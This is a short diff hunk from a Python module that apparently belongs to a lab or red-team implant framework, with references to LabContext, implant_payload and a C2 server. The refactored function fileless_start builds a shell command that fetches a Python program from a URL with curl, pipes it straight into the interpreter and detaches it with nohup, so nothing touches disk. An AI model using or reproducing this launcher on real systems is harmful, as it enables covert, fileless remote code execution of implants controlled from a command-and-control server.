@@ -41,9 +41,9 @@ def implant_payload(
     )
 
 
-def fileless_start(ctx: LabContext, payload: Payload) -> str:
-    """Shell that pipes the implant from the C2 server straight into Python, detached."""
-    url = ctx.payload_url(payload.path)
+def fileless_start(url: str) -> str:
+    """Shell that pipes the Python program at ``url`` straight into the interpreter, detached
+    (nothing is written to disk)."""
     return f"nohup sh -c 'curl -s {url} | {PYTHON} -' >/dev/null 2>&1 &"
 
 
